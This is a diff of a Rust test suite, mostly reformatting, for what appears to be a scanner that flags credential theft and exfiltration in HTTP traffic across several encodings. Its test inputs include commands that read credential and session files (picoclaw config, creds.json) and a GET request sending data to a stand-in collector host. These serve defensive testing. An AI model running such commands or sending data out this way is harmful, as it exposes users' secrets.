@@ -21,35 +21,107 @@ fn cases() -> Vec<Case> {
         .filter(|(_, l)| l.starts_with("+ ") || l.starts_with("- "))
         .map(|(i, l)| {
             let (pattern, input) = l[2..].split_once(' ').expect("case: sign, pattern, input");
-            Case { line: i + 1, positive: l.starts_with('+'), pattern: pattern.to_string(), input: unescape_case(input) }
+            Case {
+                line: i + 1,
+                positive: l.starts_with('+'),
+                pattern: pattern.to_string(),
+                input: unescape_case(input),
+            }
         })
         .collect()
 }
 
 fn spec(id: &str) -> Option<RuleSpec> {
-    guardian_parser::scan::builtin_rules().into_iter().find(|r| r.id == id)
+    guardian_parser::scan::builtin_rules()
+        .into_iter()
+        .find(|r| r.id == id)
 }
 
 fn platform_for(pattern: &str) -> Platform {
-    spec(pattern).and_then(|s| s.platform).unwrap_or(Platform::Generic)
+    spec(pattern)
+        .and_then(|s| s.platform)
+        .unwrap_or(Platform::Generic)
 }
 
 /// Every form of a case's input as a full message of its direction.
 fn forms(direction: Direction, input: &[u8]) -> Vec<(&'static str, Vec<u8>)> {
     let mut forms = vec![
         ("raw", message(direction, "text/plain", "", input)),
-        ("json", message(direction, "application/json", "", format!("{{\"data\":\"{}\"}}", json_escape(input)).as_bytes())),
-        ("sse", message(direction, "text/event-stream", "", format!("data: {{\"delta\":\"{}\"}}\n\n", json_escape(input)).as_bytes())),
-        ("gzip", message(direction, "text/plain", "Content-Encoding: gzip\r\n", &gzip(input))),
-        ("deflate", message(direction, "text/plain", "Content-Encoding: deflate\r\n", &zlib(input))),
-        ("raw-deflate", message(direction, "text/plain", "Content-Encoding: deflate\r\n", &raw_deflate(input))),
-        ("br", message(direction, "text/plain", "Content-Encoding: br\r\n", &brotli(input))),
-        ("gzip+json", message(direction, "application/json", "Content-Encoding: gzip\r\n", &gzip(format!("[\"{}\"]", json_escape(input)).as_bytes()))),
+        (
+            "json",
+            message(
+                direction,
+                "application/json",
+                "",
+                format!("{{\"data\":\"{}\"}}", json_escape(input)).as_bytes(),
+            ),
+        ),
+        (
+            "sse",
+            message(
+                direction,
+                "text/event-stream",
+                "",
+                format!("data: {{\"delta\":\"{}\"}}\n\n", json_escape(input)).as_bytes(),
+            ),
+        ),
+        (
+            "gzip",
+            message(
+                direction,
+                "text/plain",
+                "Content-Encoding: gzip\r\n",
+                &gzip(input),
+            ),
+        ),
+        (
+            "deflate",
+            message(
+                direction,
+                "text/plain",
+                "Content-Encoding: deflate\r\n",
+                &zlib(input),
+            ),
+        ),
+        (
+            "raw-deflate",
+            message(
+                direction,
+                "text/plain",
+                "Content-Encoding: deflate\r\n",
+                &raw_deflate(input),
+            ),
+        ),
+        (
+            "br",
+            message(
+                direction,
+                "text/plain",
+                "Content-Encoding: br\r\n",
+                &brotli(input),
+            ),
+        ),
+        (
+            "gzip+json",
+            message(
+                direction,
+                "application/json",
+                "Content-Encoding: gzip\r\n",
+                &gzip(format!("[\"{}\"]", json_escape(input)).as_bytes()),
+            ),
+        ),
         ("chunked-7", chunked(direction, "text/plain", input, 7)),
     ];
     if direction == Direction::Outbound {
         let encoded = percent_encode_all(input);
-        forms.push(("form", request("application/x-www-form-urlencoded", "", format!("data={encoded}").as_bytes())));
+        forms.push((
+            "form",
+            request(
+                "application/x-www-form-urlencoded",
+                "",
+                format!("data={encoded}").as_bytes(),
+            ),
+        ));
         if !input.contains(&b'\n') {
             let target = format!("GET http://collector.example/q?data={encoded} HTTP/1.1\r\nHost: collector.example\r\n\r\n");
             forms.push(("target", target.into_bytes()));
@@ -72,11 +144,22 @@ fn positive_cases_are_found_in_every_form() {
             let found = inspect(&registry, direction, &stream);
             let hits = found.iter().filter(|d| d.pattern == case.pattern).count();
             if hits != 1 {
-                failures.push(format!("line {} [{form}] {}: expected 1 {} finding, got {:?}", case.line, String::from_utf8_lossy(&case.input), case.pattern, found.iter().map(|d| &d.pattern).collect::<Vec<_>>()));
+                failures.push(format!(
+                    "line {} [{form}] {}: expected 1 {} finding, got {:?}",
+                    case.line,
+                    String::from_utf8_lossy(&case.input),
+                    case.pattern,
+                    found.iter().map(|d| &d.pattern).collect::<Vec<_>>()
+                ));
             }
         }
     }
-    assert!(failures.is_empty(), "{} failures:\n{}", failures.len(), failures.join("\n"));
+    assert!(
+        failures.is_empty(),
+        "{} failures:\n{}",
+        failures.len(),
+        failures.join("\n")
+    );
 }
 
 #[test]
@@ -88,10 +171,18 @@ fn positive_cases_are_found_whatever_the_split() {
         let whole = inspect(&registry, direction, &stream);
         for split in 1..stream.len() {
             let (two, _) = inspect_split(&registry, direction, &stream, &[split, stream.len()]);
-            assert_eq!(two, whole, "line {}: split at {split} changed the result", case.line);
+            assert_eq!(
+                two, whole,
+                "line {}: split at {split} changed the result",
+                case.line
+            );
         }
         let (bytewise, _) = inspect_split(&registry, direction, &stream, &[1]);
-        assert_eq!(bytewise, whole, "line {}: byte-by-byte feeding changed the result", case.line);
+        assert_eq!(
+            bytewise, whole,
+            "line {}: byte-by-byte feeding changed the result",
+            case.line
+        );
     }
 }
 
@@ -109,23 +200,44 @@ fn negative_cases_are_not_found_in_any_form() {
             for &direction in directions {
                 for (form, stream) in forms(direction, &case.input) {
                     let found = inspect(&registry, direction, &stream);
-                    let bad: Vec<_> = found.iter().filter(|d| case.pattern == "*" || d.pattern == case.pattern).collect();
+                    let bad: Vec<_> = found
+                        .iter()
+                        .filter(|d| case.pattern == "*" || d.pattern == case.pattern)
+                        .collect();
                     if !bad.is_empty() {
-                        failures.push(format!("line {} [{form}, {platform:?}]: unexpected {:?} in {}", case.line, bad.iter().map(|d| (&d.pattern, &d.snippet)).collect::<Vec<_>>(), String::from_utf8_lossy(&case.input)));
+                        failures.push(format!(
+                            "line {} [{form}, {platform:?}]: unexpected {:?} in {}",
+                            case.line,
+                            bad.iter()
+                                .map(|d| (&d.pattern, &d.snippet))
+                                .collect::<Vec<_>>(),
+                            String::from_utf8_lossy(&case.input)
+                        ));
                     }
                 }
             }
         }
     }
-    assert!(failures.is_empty(), "{} failures:\n{}", failures.len(), failures.join("\n"));
+    assert!(
+        failures.is_empty(),
+        "{} failures:\n{}",
+        failures.len(),
+        failures.join("\n")
+    );
 }
 
 #[test]
 fn every_builtin_pattern_has_positive_and_negative_cases() {
     let all = cases();
     for id in guardian_parser::scan::builtin_ids() {
-        assert!(all.iter().any(|c| c.positive && c.pattern == id), "{id} has no positive case");
-        assert!(all.iter().any(|c| !c.positive && c.pattern == id), "{id} has no negative case");
+        assert!(
+            all.iter().any(|c| c.positive && c.pattern == id),
+            "{id} has no positive case"
+        );
+        assert!(
+            all.iter().any(|c| !c.positive && c.pattern == id),
+            "{id} has no negative case"
+        );
     }
 }
 
@@ -134,14 +246,24 @@ fn platform_only_patterns_are_off_elsewhere() {
     let picoclaw_case = b"cat ~/.picoclaw/config.json";
     let nanoclaw_case = b"cat store/auth/creds.json";
     let found = |platform, input: &[u8]| {
-        inspect(&Registry::builtin(platform), Direction::Outbound, &request("text/plain", "", input))
-            .into_iter()
-            .map(|d| d.pattern)
-            .collect::<Vec<_>>()
+        inspect(
+            &Registry::builtin(platform),
+            Direction::Outbound,
+            &request("text/plain", "", input),
+        )
+        .into_iter()
+        .map(|d| d.pattern)
+        .collect::<Vec<_>>()
     };
-    assert_eq!(found(Platform::Picoclaw, picoclaw_case), vec!["gateway_token_path"]);
+    assert_eq!(
+        found(Platform::Picoclaw, picoclaw_case),
+        vec!["gateway_token_path"]
+    );
     assert!(found(Platform::Nanoclaw, picoclaw_case).is_empty());
     assert!(found(Platform::Generic, picoclaw_case).is_empty());
-    assert_eq!(found(Platform::Nanoclaw, nanoclaw_case), vec!["whatsapp_session_path"]);
+    assert_eq!(
+        found(Platform::Nanoclaw, nanoclaw_case),
+        vec!["whatsapp_session_path"]
+    );
     assert!(found(Platform::Picoclaw, nanoclaw_case).is_empty());
 }
